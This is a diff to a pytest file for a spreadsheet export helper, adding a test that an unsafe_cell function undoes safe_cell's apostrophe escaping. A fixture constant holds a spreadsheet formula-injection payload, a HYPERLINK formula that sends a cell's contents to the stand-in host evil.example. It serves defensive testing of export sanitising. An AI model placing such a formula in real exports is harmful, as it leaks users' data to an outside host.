@@ -4,7 +4,7 @@ from pathlib import Path
 
 import pytest
 
-from apps.core.spreadsheet import safe_cell
+from apps.core.spreadsheet import safe_cell, unsafe_cell
 
 APPS = Path(__file__).resolve().parents[2]
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
@@ -45,3 +45,18 @@ def test_every_export_writes_through_the_safe_helper():
         if "csv.writer(" in text or ("openpyxl" in text and "safe_row(" not in text):
             offenders.append(str(path.relative_to(APPS)))
     assert offenders == []
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("'" + HYPERLINK, HYPERLINK),
+        ("'- une puce", "- une puce"),
+        ("'-1234,56", "'-1234,56"),  # safe_cell never writes this: a text the person typed
+        ("'abc", "'abc"),
+        ("l'atelier", "l'atelier"),
+        ("", ""),
+    ],
+)
+def test_unsafe_cell_reads_back_what_safe_cell_wrote(value, expected):
+    assert unsafe_cell(value) == expected
